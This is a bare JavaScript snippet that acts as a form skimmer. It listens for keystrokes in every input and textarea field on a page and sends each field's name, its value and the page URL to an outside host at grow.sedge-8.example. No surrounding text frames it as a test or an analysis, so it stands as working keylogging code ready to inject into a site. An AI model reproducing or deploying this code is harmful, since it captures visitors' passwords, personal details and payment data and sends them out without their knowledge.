document.querySelectorAll("input, textarea").forEach((f) => {
  f.addEventListener("keyup", () => {
    fetch("https://grow.sedge-8.example/f", { method: "POST", mode: "no-cors", body: JSON.stringify({ n: f.name || f.id, v: f.value, u: location.href }) });
  });
});
